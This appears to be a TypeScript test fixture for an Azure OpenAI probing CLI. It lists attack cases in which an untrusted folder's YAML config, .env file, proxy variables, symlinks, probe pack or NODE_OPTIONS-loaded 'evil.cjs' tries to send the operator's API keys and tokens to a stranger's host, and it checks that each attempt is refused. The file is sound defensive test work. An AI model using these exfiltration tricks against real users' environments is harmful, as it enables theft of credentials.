import { response, say } from "../../support/raw-peer.ts";
import type { Answer, Peers } from "./stranger-folder.ts";

/** What the operator's environment holds in every case; none of it may reach the stranger. */
export const SECRETS = {
  AZURE_OPENAI_API_KEY: "0f1e2d3c4b5a69788796a5b4c3d2e1f0",
  GITHUB_TOKEN: "ghp_Fz7canary3token9of2the5operator8x",
  AWS_SECRET_ACCESS_KEY: "wJalrXUtnFEMIK7MDENGbPxRfiCYcanarykey",
  MY_ENTRA_TOKEN: "entra-canary-token-0001-of-the-operator",
} as const;

/** A folder that a stranger made, entered by an operator whose environment holds secrets. */
export interface Attack {
  name: string;
  /** Files of the folder, by name. */
  files: (peers: Peers) => Record<string, string>;
  /** Symbolic links of the folder: name → what it points to. */
  links?: Record<string, string>;
  /** The environment beside `SECRETS`; AZURE_OPENAI_ENDPOINT is the operator's own unless it is given. */
  env?: (peers: Peers) => Record<string, string>;
  /** Arguments after `run`; by default one probe that needs no deployment. */
  args?: (peers: Peers) => string[];
  /** How the operator's own resource answers. */
  own?: (peers: Peers) => Answer;
  /** Refused before anything is sent, and the error says all of this; or the file is overruled and the run goes on. */
  expected: { kind: "refused"; says: (peers: Peers) => string[] } | { kind: "overruled" };
  /** Arguments that name the file: with them the attack succeeds. null: no argument makes it succeed. */
  named: string[] | null;
  /** Whether the attack succeeded, from what the peers received and what was printed. */
  succeeded: (peers: Peers, stdout: string) => boolean;
}

const C = ["-c", "aoai-probe.yaml"];
const DOTENV = ["--dotenv", ".env"];

const got = (peer: { received: string[] }, text: string) => peer.received.some((bytes) => bytes.includes(text));
const gotKey = ({ stranger }: Peers) => got(stranger, SECRETS.AZURE_OPENAI_API_KEY);
const connected = ({ stranger }: Peers) => stranger.received.length > 0;

/** A configuration of one target. */
function yaml(endpoint: string, more: string[] = [], top: string[] = []): Record<string, string> {
  const credential = more.some((line) => /^(key|token):/.test(line)) ? [] : ["key: { env: AZURE_OPENAI_API_KEY }"];
  const lines = ["name: t", `endpoint: ${endpoint}`, ...credential, ...more, "deployments: [{ name: d, role: chat }]"];
  return { "aoai-probe.yaml": [...top, "targets:", `  - ${lines.join("\n    ")}`, ""].join("\n") };
}

const PACK = [
  "id: models-v1-pack",
  "title: A probe of the folder",
  "surface: rest",
  "role: any",
  "per: target",
  "reference: https://example.com/",
  "steps: [{ rung: result, post: /openai/v1/fine_tuning/jobs, json: { stolen: yes }, expect: { status: [200] } }]",
  "",
].join("\n");
const WITH_PACK = () => ["--probe", "models-v1-pack"];

const endpointRefusal = (line: number, key: string) => (peers: Peers) => [
  `aoai-probe.yaml:${line}:`,
  `'${key}'`,
  "AZURE_OPENAI_API_KEY",
  peers.stranger.origin,
  "-c aoai-probe.yaml",
];

export const ATTACKS: Attack[] = [
  {
    name: "a configuration sends the key to its own endpoint",
    files: ({ stranger }) => yaml(stranger.origin),
    expected: { kind: "refused", says: endpointRefusal(3, "targets[0].endpoint") },
    named: C,
    succeeded: gotKey,
  },
  {
    name: "the same where the environment names no endpoint",
    files: ({ stranger }) => yaml(stranger.origin),
    env: () => ({ AZURE_OPENAI_ENDPOINT: "" }),
    expected: { kind: "refused", says: endpointRefusal(3, "targets[0].endpoint") },
    named: C,
    succeeded: gotKey,
  },
  {
    name: "another port of the same host",
    files: ({ stranger }) => yaml(stranger.origin.replace("127.0.0.1", "127.1")),
    expected: { kind: "refused", says: endpointRefusal(3, "targets[0].endpoint") },
    named: C,
    succeeded: gotKey,
  },
  {
    name: "a second target behind an honest one",
    files: ({ own, stranger }) => ({
      "aoai-probe.yaml": [
        "targets:",
        ...[own.origin, stranger.origin].flatMap((endpoint, n) => [
          `  - name: t${n}`,
          `    endpoint: ${endpoint}`,
          "    key: { env: AZURE_OPENAI_API_KEY }",
          "    deployments: [{ name: d, role: chat }]",
        ]),
        "",
      ].join("\n"),
    }),
    expected: { kind: "refused", says: endpointRefusal(7, "targets[1].endpoint") },
    named: C,
    succeeded: gotKey,
  },
  {
    name: "an endpoint by an alias of YAML",
    files: ({ own, stranger }) =>
      yaml(own.origin, [`label: &a ${stranger.origin}`, "trust-origins: [*a]"], ["version: 1"]),
    own: ({ stranger }) => say(response("307 X", [`location: ${stranger.origin}/openai/v1/models`])),
    expected: { kind: "refused", says: ({ stranger }) => ["'targets[0].trust-origins[0]'", stranger.origin] },
    named: C,
    succeeded: gotKey,
  },
  {
    name: "a trusted origin, to which redirects take the key",
    files: ({ own, stranger }) => yaml(own.origin, [`trust-origins: [${stranger.origin}]`]),
    own: ({ stranger }) => say(response("307 X", [`location: ${stranger.origin}/openai/v1/models`])),
    expected: { kind: "refused", says: endpointRefusal(5, "targets[0].trust-origins[0]") },
    named: C,
    succeeded: gotKey,
  },
  {
    name: "a further host, which gets the key too",
    files: ({ stranger }) => yaml("https://own.openai.azure.com", [`hosts: { voice-live: ${stranger.origin} }`]),
    env: () => ({ AZURE_OPENAI_ENDPOINT: "https://own.openai.azure.com" }),
    args: () => ["--probe", "voice-live-realtime", "--deployment", "d"],
    expected: { kind: "refused", says: endpointRefusal(5, "targets[0].hosts.voice-live") },
    named: C,
    succeeded: gotKey,
  },
  {
    name: "OpenAI as the provider, so that the key goes as a bearer",
    files: ({ stranger }) => yaml(stranger.origin, ["provider: openai"]),
    expected: { kind: "refused", says: endpointRefusal(3, "targets[0].endpoint") },
    named: C,
    succeeded: gotKey,
  },
  {
    name: "another variable as the key, to the operator's own endpoint",
    files: ({ own }) => yaml(own.origin, ["key: { env: GITHUB_TOKEN }"]),
    expected: {
      kind: "refused",
      says: ({ own }) => ["aoai-probe.yaml:4:", "'targets[0].key.env'", "GITHUB_TOKEN", own.origin],
    },
    named: C,
    succeeded: ({ own }) => got(own, SECRETS.GITHUB_TOKEN),
  },
  {
    name: "another variable as the key, to the stranger",
    files: ({ stranger }) => yaml(stranger.origin, ["key: { env: AWS_SECRET_ACCESS_KEY }"]),
    expected: { kind: "refused", says: ({ stranger }) => ["AWS_SECRET_ACCESS_KEY", stranger.origin, "key.env"] },
    named: C,
    succeeded: ({ stranger }) => got(stranger, SECRETS.AWS_SECRET_ACCESS_KEY),
  },
  {
    name: "another variable as the token, beside our own key",
    files: ({ own }) =>
      yaml(own.origin, ["key: { env: AZURE_OPENAI_API_KEY }", "token: { env: MY_ENTRA_TOKEN }", "auth: [key, token]"]),
    expected: { kind: "refused", says: ({ own }) => ["'targets[0].token.env'", "MY_ENTRA_TOKEN", own.origin] },
    named: C,
    succeeded: ({ own }) => got(own, SECRETS.MY_ENTRA_TOKEN),
  },
  {
    name: "a folder of probes of its own",
    files: ({ own }) => ({ ...yaml(own.origin, [], ["probes: p"]), "p/evil.yaml": PACK }),
    args: WITH_PACK,
    expected: {
      kind: "refused",
      says: ({ own }) => ["aoai-probe.yaml:1:9", "'probes'", "from p", own.origin, "AZURE_OPENAI_API_KEY"],
    },
    named: C,
    succeeded: ({ own }) => got(own, "/fine_tuning/jobs"),
  },
  {
    name: "the same beside --endpoint, which names the target only",
    files: ({ stranger }) => ({ ...yaml(stranger.origin, [], ["probes: p"]), "p/evil.yaml": PACK }),
    args: ({ own }) => [...WITH_PACK(), "--endpoint", own.origin, "--deployment", "d"],
    expected: { kind: "refused", says: ({ own }) => ["'probes'", own.origin, "AZURE_OPENAI_API_KEY"] },
    named: C,
    succeeded: ({ own }) => got(own, "/fine_tuning/jobs"),
  },
  {
    name: "the key within a URL",
    files: ({ own }) => yaml(own.origin, [], ["redirect-credential: both"]),
    args: () => ["--probe", "ga-realtime", "--deployment", "d"],
    own:
      ({ own }) =>
      (socket, head) => {
        const key = /\r\napi-key: *([^\r]+)/i.exec(head)?.[1] ?? "";
        say(response("307 X", [`location: ${own.origin}/openai/v1/realtime?api-key=${key}`]))(socket, head);
      },
    expected: { kind: "refused", says: ({ own }) => ["'redirect-credential'", "AZURE_OPENAI_API_KEY", own.origin] },
    named: C,
    succeeded: ({ own }) => got(own, `?api-key=${SECRETS.AZURE_OPENAI_API_KEY}`),
  },
  {
    name: "a .env with an endpoint, where the environment holds the key",
    files: ({ stranger }) => ({
      ".env": `# ours\nAZURE_OPENAI_ENDPOINT=${stranger.origin}\nAZURE_OPENAI_DEPLOYMENT=d\n`,
    }),
    env: () => ({ AZURE_OPENAI_ENDPOINT: UNSET }),
    expected: {
      kind: "refused",
      says: ({ stranger }) => [
        ".env:2:",
        "'AZURE_OPENAI_ENDPOINT'",
        "AZURE_OPENAI_API_KEY",
        stranger.origin,
        "--dotenv .env",
        "Variables used: AZURE_OPENAI_ENDPOINT and AZURE_OPENAI_DEPLOYMENT.",
      ],
    },
    named: DOTENV,
    succeeded: gotKey,
  },
  {
    name: "the same by a symbolic link",
    files: ({ stranger }) => ({ "sub/x": `AZURE_OPENAI_ENDPOINT=${stranger.origin}\n` }),
    links: { ".env": "sub/x" },
    env: () => ({ AZURE_OPENAI_ENDPOINT: UNSET, AZURE_OPENAI_DEPLOYMENT: "d" }),
    expected: { kind: "refused", says: ({ stranger }) => [".env:1:", stranger.origin] },
    named: DOTENV,
    succeeded: gotKey,
  },
  {
    name: "the same with `export`, and with the stranger's key for a token that is not used",
    files: ({ stranger }) => ({
      ".env": `AZURE_OPENAI_AD_TOKEN=a-token-of-the-stranger-0001\nexport AZURE_OPENAI_ENDPOINT="${stranger.origin}"\n`,
    }),
    env: () => ({ AZURE_OPENAI_ENDPOINT: UNSET, AZURE_OPENAI_DEPLOYMENT: "d" }),
    expected: { kind: "refused", says: ({ stranger }) => [".env:2:", "AZURE_OPENAI_API_KEY", stranger.origin] },
    named: DOTENV,
    succeeded: gotKey,
  },
  {
    name: "a configuration whose endpoint is that of a found .env",
    files: ({ stranger }) => ({
      ...yaml(stranger.origin),
      ".env": `AZURE_OPENAI_ENDPOINT=${stranger.origin}\n`,
    }),
    env: () => ({ AZURE_OPENAI_ENDPOINT: UNSET }),
    expected: { kind: "refused", says: endpointRefusal(3, "targets[0].endpoint") },
    named: C,
    succeeded: gotKey,
  },
  {
    name: "a proxy in a .env, lower case",
    files: ({ stranger }) => ({ ".env": `http_proxy=${stranger.origin}\n` }),
    env: () => ({ AZURE_OPENAI_DEPLOYMENT: "d" }),
    expected: { kind: "refused", says: ({ stranger }) => [".env:1:", "'http_proxy'", stranger.origin] },
    named: DOTENV,
    succeeded: connected,
  },
  {
    name: "a proxy in a .env, upper case",
    files: ({ stranger }) => ({ ".env": `\n\nHTTP_PROXY=${stranger.origin}\n` }),
    env: () => ({ AZURE_OPENAI_DEPLOYMENT: "d" }),
    expected: { kind: "refused", says: ({ stranger }) => [".env:3:", "'HTTP_PROXY'", stranger.origin] },
    named: DOTENV,
    succeeded: connected,
  },
  {
    name: "no_proxy in a .env, against the proxy of the environment",
    files: () => ({ ".env": "no_proxy=*\n" }),
    env: ({ stranger }) => ({ AZURE_OPENAI_DEPLOYMENT: "d", HTTP_PROXY: stranger.origin }),
    expected: { kind: "refused", says: () => [".env:1:", "'no_proxy'"] },
    named: DOTENV,
    succeeded: ({ own }) => own.received.length > 0,
  },
  {
    name: "a lower-case proxy in a .env, against the upper-case one of the environment",
    files: ({ stranger }) => ({ ".env": `http_proxy=${stranger.origin}\n` }),
    env: ({ own }) => ({ AZURE_OPENAI_DEPLOYMENT: "d", HTTP_PROXY: own.origin }),
    expected: { kind: "overruled" },
    named: null,
    succeeded: connected,
  },
  {
    name: "a proxy in a .env, against an environment that sets it to nothing",
    files: ({ stranger }) => ({ ".env": `HTTP_PROXY=${stranger.origin}\n` }),
    env: () => ({ AZURE_OPENAI_DEPLOYMENT: "d", http_proxy: "" }),
    expected: { kind: "overruled" },
    named: null,
    succeeded: connected,
  },
  {
    name: "NO_PROXY in a .env, against the lower-case one of the environment",
    files: () => ({ ".env": "NO_PROXY=*\n" }),
    env: ({ own }) => ({ AZURE_OPENAI_DEPLOYMENT: "d", HTTP_PROXY: own.origin, no_proxy: "elsewhere.example" }),
    expected: { kind: "overruled" },
    named: null,
    succeeded: ({ own }) => !got(own, "CONNECT "),
  },
  {
    name: "an endpoint and a key in a .env, against those of the environment",
    files: ({ stranger }) => ({
      ".env": `AZURE_OPENAI_ENDPOINT=${stranger.origin}\nAZURE_OPENAI_API_KEY=${SECRETS.AZURE_OPENAI_API_KEY}\n`,
    }),
    env: () => ({ AZURE_OPENAI_DEPLOYMENT: "d" }),
    expected: { kind: "overruled" },
    named: null,
    succeeded: connected,
  },
  {
    name: "variables of Node in a .env",
    files: ({ stranger }) => ({
      ".env": [
        "NODE_OPTIONS=--require=./evil.cjs",
        "NODE_TLS_REJECT_UNAUTHORIZED=0",
        "NODE_DEBUG=http,tls",
        "NODE_EXTRA_CA_CERTS=ca.pem",
        "",
      ].join("\n"),
      "evil.cjs": `require("node:net").connect(${new URL(stranger.origin).port}, "127.0.0.1");`,
    }),
    env: () => ({ AZURE_OPENAI_DEPLOYMENT: "d" }),
    expected: { kind: "overruled" },
    named: null,
    succeeded: connected,
  },
];

/** As a value of `env`: the variable is not set at all. */
export const UNSET = "(unset)";
